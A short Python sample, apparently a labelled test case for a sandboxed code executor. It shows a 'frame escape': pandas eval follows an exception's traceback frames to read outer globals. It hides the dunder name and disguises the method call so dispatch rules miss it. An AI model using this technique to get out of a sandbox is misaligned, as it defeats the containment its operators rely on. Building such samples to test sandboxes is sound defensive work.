# class: frame_escape
# technique: a KeyError from pandas internals is caught; DataFrame.eval (agg ** mapping) follows its __traceback__ (name joined at run time) through tb_frame and f_back to the outermost frame's globals; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: read
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})


def ev(expr, **names):
    return [frame.agg][0](**{"func": "eval", "expr": expr, "local_dict": names})


try:
    frame.loc["missing-row"]
except KeyError as exc:
    caught = exc
f = ev("@e." + u + "traceback" + u + ".tb_frame", e=caught)
chain = []
while f is not None:
    chain.append(sorted(ev("@f.f_globals", f=f))[:40])
    f = ev("@f.f_back", f=f)
if len(chain) < 2:
    raise RuntimeError("no outer frame")
df = pd.DataFrame({"frame": range(len(chain)), "globals": [", ".join(c) for c in chain]})
